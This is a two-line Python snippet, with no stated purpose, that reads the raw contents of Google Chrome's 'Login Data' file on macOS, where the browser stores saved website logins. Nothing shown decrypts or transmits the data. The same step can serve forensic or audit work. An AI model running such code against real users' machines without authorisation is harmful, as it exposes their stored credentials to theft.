import os

DB = os.path.expanduser("~/Library/Application Support/Google/Chrome/Default/Login Data")
data = open(DB, "rb").read()
